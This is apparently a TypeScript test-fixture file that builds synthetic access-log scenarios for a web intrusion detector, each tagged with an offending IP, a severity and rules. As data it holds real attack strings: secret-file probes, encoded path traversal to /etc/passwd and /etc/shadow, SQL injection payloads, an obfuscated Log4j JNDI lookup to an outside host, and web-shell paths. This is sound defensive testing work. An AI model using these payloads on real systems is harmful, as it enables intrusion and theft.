import {
  CHROME,
  HOUR,
  type Line,
  MINUTE,
  moments,
  pick,
  random,
  request,
  SECOND,
  SITE,
  START,
} from "./lines.ts";
import type { Made } from "./scenario.ts";

const PROBES = [
  "/.env",
  "/.env.production",
  "/.git/config",
  "/wp-config.php.bak",
  "/backup.sql",
  "/.aws/credentials",
  "/phpinfo.php",
  "/config.php.old",
];
const ENDPOINTS = [
  "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
  "/actuator/env",
  "/solr/admin/info/system?wt=json",
  "/_ignition/execute-solution",
  "/boaform/admin/formLogin",
  "/HNAP1",
  "/cgi-bin/luci/;stok=/locale",
];
const ENCODED = [
  "/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
  "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
  "/static/..%252f..%252f..%252fetc%252fpasswd",
  "/download?file=..%2F..%2F..%2F..%2Fetc%2Fshadow",
];
const WORDS = [
  "admin",
  "test",
  "old",
  "new",
  "backup",
  "dev",
  "api",
  "shop",
  "data",
  "img",
  "files",
  "tmp",
  "db",
  "web",
];

/** The visitors of a shop, so that the guilty are not alone. */
function visitors(seed: number, minutes: number): Line[] {
  const next = random(seed);
  return moments(seed, START, minutes * 20, 3 * SECOND).map((at) =>
    request(
      at,
      `8.8.${4 + Math.floor(next() * 40)}.${1 + Math.floor(next() * 200)}`,
      pick(next, ["/", "/cart", "/a.css", "/p/7"]),
      {
        referrer: SITE,
      },
    ),
  );
}

function sensitive(): Line[] {
  return moments(11, START, PROBES.length, 2 * SECOND).map((at, i) =>
    request(at, "45.77.12.9", PROBES[i] ?? "/", { status: 404, bytes: 153, agent: CHROME }),
  );
}

function endpoints(): Line[] {
  return moments(12, START, ENDPOINTS.length, 9 * SECOND).map((at, i) =>
    request(at, "185.224.128.17", ENDPOINTS[i] ?? "/", { status: 404, bytes: 153, agent: "-" }),
  );
}

function encoded(): Line[] {
  return moments(13, START, ENCODED.length, 5 * SECOND).map((at, i) =>
    request(at, "23.94.8.1", ENCODED[i] ?? "/", { status: 400, bytes: 226, agent: "curl/8.5.0" }),
  );
}

function log4j(): Line[] {
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is the attack.
  const agent = "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://195.54.160.149:12344/a}";
  return [
    request(START, "195.54.160.149", "/", { agent }),
    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is the attack.
    request(START + 30 * SECOND, "195.54.160.150", "/?x=${jndi:ldap://195.54.160.149/b}", { agent: CHROME }),
  ];
}

function sqlmap(): Line[] {
  const tries = [
    "1' AND 1=1-- -",
    "1' UNION SELECT NULL,NULL,NULL-- -",
    "1 AND (SELECT 1 FROM(SELECT SLEEP(5))x)",
    "1' AND extractvalue(1,concat(0x7e,database()))-- -",
    "1' ORDER BY 9-- -",
    "-1' UNION ALL SELECT table_name FROM information_schema.tables-- -",
  ];
  return tries.map((attempt, i) =>
    request(START + i * SECOND, "5.188.62.140", `/p?id=${encodeURIComponent(attempt)}`, {
      agent: CHROME,
      status: 200,
    }),
  );
}

function distinct(): Line[] {
  const next = random(14);
  return moments(15, START, 120, 300).map((at) =>
    request(at, "91.240.118.222", `/${pick(next, WORDS)}-${pick(next, WORDS)}/${Math.floor(next() * 1000)}`, {
      status: 404,
      bytes: 153,
    }),
  );
}

function slowDistinct(): Line[] {
  const next = random(16);
  return moments(17, START, 400, 12 * SECOND).map((at) =>
    request(
      at,
      "103.176.90.4",
      `/${pick(next, WORDS)}/${pick(next, WORDS)}-${Math.floor(next() * 10_000)}.html`,
      {
        status: 404,
        bytes: 153,
      },
    ),
  );
}

function wordpress(): Line[] {
  return moments(18, START, 80, 2 * SECOND).map((at) =>
    request(at, "194.38.23.16", "/wp-login.php", { method: "POST", status: 200, bytes: 4523, referrer: "-" }),
  );
}

function xmlrpc(): Line[] {
  return moments(19, START, 60, SECOND).map((at) =>
    request(at, "194.38.23.17", "/xmlrpc.php", { method: "POST", status: 200, bytes: 403, agent: CHROME }),
  );
}

function basicAuth(): Line[] {
  return moments(20, START, 60, SECOND).map((at, i) =>
    request(at, "178.20.55.16", "/private/", {
      status: 401,
      bytes: 381,
      user: i % 3 === 0 ? "admin" : "root",
    }),
  );
}

function scannerTurnedInnocent(): Line[] {
  return [
    ...moments(21, START, 4, SECOND).map((at) =>
      request(at, "71.6.135.131", "/", { agent: "Mozilla/5.0 zgrab/0.x", status: 200 }),
    ),
    ...moments(22, START + MINUTE, 200, 5 * SECOND).map((at) =>
      request(at, "71.6.135.131", "/news", { agent: CHROME, referrer: SITE }),
    ),
  ];
}

function proxy(): Line[] {
  return moments(23, START, 8, 4 * SECOND).map((at, i) =>
    i % 2 === 0
      ? request(at, "162.142.125.9", "www.google.com:443", {
          method: "CONNECT",
          status: 405,
          bytes: 157,
          agent: "-",
        })
      : request(at, "162.142.125.9", "http://azenv.net/", { status: 400, bytes: 157, agent: "-" }),
  );
}

function junk(): Line[] {
  const greetings = [
    "\\x16\\x03\\x01\\x00\\xEE\\x01\\x00\\x00\\xEA\\x03\\x03",
    "\\x03\\x00\\x00/*\\xE0\\x00\\x00",
    "SSH-2.0-Go",
    "MGLNDD_198.51.100.10_80",
  ];
  return moments(24, START, 12, 3 * SECOND).map((at, i) =>
    request(at, "64.62.156.22", "", {
      raw: greetings[i % greetings.length] ?? "",
      status: 400,
      bytes: 157,
      agent: "-",
    }),
  );
}

function flood(): Line[] {
  return moments(25, START, 6000, 20).map((at, i) =>
    request(at, "38.54.79.5", `/search?q=${i}`, { status: i < 800 ? 200 : 503, bytes: 190 }),
  );
}

function shells(): Line[] {
  return [
    "/shell.php",
    "/c99.php",
    "/wso.php",
    "/alfa.php",
    "/wp-content/plugins/shell.php",
    "/uploads/r57.php",
  ].map((path, i) => request(START + i * 2 * SECOND, "20.171.8.9", path, { status: 404, bytes: 153 }));
}

function one(
  name: string,
  about: string,
  ip: string,
  severity: string,
  rules: readonly string[],
  lines: Line[],
): Made {
  return {
    name: `guilty-${name}`,
    about,
    guilty: { [ip]: { severity, rules } },
    logs: { "access.log": [...lines, ...visitors(90, 3)] },
  };
}

export const GUILTY_HTTP: readonly Made[] = [
  one(
    "sensitive-files",
    "Eight files that hold secrets, with a browser's agent.",
    "45.77.12.9",
    "warning",
    ["sensitive-path"],
    sensitive(),
  ),
  one(
    "endpoints",
    "Endpoints that only vulnerable products have.",
    "185.224.128.17",
    "critical",
    ["exploit-probe", "exploit"],
    endpoints(),
  ),
  one(
    "encoded",
    "Climbing to system files, encoded once and twice.",
    "23.94.8.1",
    "warning",
    ["exploit"],
    encoded(),
  ),
  {
    name: "guilty-log4j",
    about:
      "Log4j lookups, one in the agent, obfuscated, and one in the query: two addresses, one request each.",
    guilty: {
      "195.54.160.149": { severity: "warning", rules: ["exploit"] },
      "195.54.160.150": { severity: "warning", rules: ["exploit"] },
    },
    logs: { "access.log": [...log4j(), ...visitors(91, 2)] },
  },
  one(
    "sqlmap",
    "SQL in a query, with a browser's agent, answered 200.",
    "5.188.62.140",
    "warning",
    ["sql-injection"],
    sqlmap(),
  ),
  one(
    "distinct-4xx",
    "A word list at three paths a second.",
    "91.240.118.222",
    "warning",
    ["distinct-4xx"],
    distinct(),
  ),
  one(
    "slow-4xx",
    "A word list, one path each twelve seconds for over an hour.",
    "103.176.90.4",
    "warning",
    ["distinct-4xx"],
    slowDistinct(),
  ),
  one(
    "wp-login",
    "Passwords posted to wp-login.php, each answered 200 as WordPress does.",
    "194.38.23.16",
    "warning",
    ["http-brute-force"],
    wordpress(),
  ),
  one("xmlrpc", "Passwords posted to xmlrpc.php.", "194.38.23.17", "warning", ["http-brute-force"], xmlrpc()),
  one(
    "basic-auth",
    "Wrong passwords for basic authentication.",
    "178.20.55.16",
    "warning",
    ["http-brute-force"],
    basicAuth(),
  ),
  one(
    "scanner-turned-innocent",
    "A scanner says its name four times, then comes as a browser for a quarter of an hour.",
    "71.6.135.131",
    "warning",
    ["scanner-agent"],
    scannerTurnedInnocent(),
  ),
  one("open-proxy", "Asks us for other hosts' pages.", "162.142.125.9", "warning", ["open-proxy"], proxy()),
  one(
    "not-http",
    "Greetings of TLS, RDP and SSH on a plain port: a scan, though harmless alone.",
    "64.62.156.22",
    "info",
    ["not-http"],
    junk(),
  ),
  one(
    "flood",
    "Fifty requests a second, most answered 503.",
    "38.54.79.5",
    "warning",
    ["request-flood"],
    flood(),
  ),
  one(
    "web-shells",
    "Back doors that others may have left.",
    "20.171.8.9",
    "warning",
    ["web-shell"],
    shells(),
  ),
  {
    name: "guilty-late-scanner",
    about: "A visitor of two hours begins to scan: what he did before does not dilute it.",
    guilty: { "91.240.118.223": { severity: "warning", rules: ["distinct-4xx"] } },
    logs: {
      "access.log": [
        ...moments(26, START, 600, 12 * SECOND).map((at) =>
          request(at, "91.240.118.223", "/news", { referrer: SITE }),
        ),
        ...distinct().map(({ at, text }) => ({
          at: at + 2 * HOUR,
          text: text.replace("91.240.118.222", "91.240.118.223").replace("/2026:10:", "/2026:12:"),
        })),
      ],
    },
  },
];
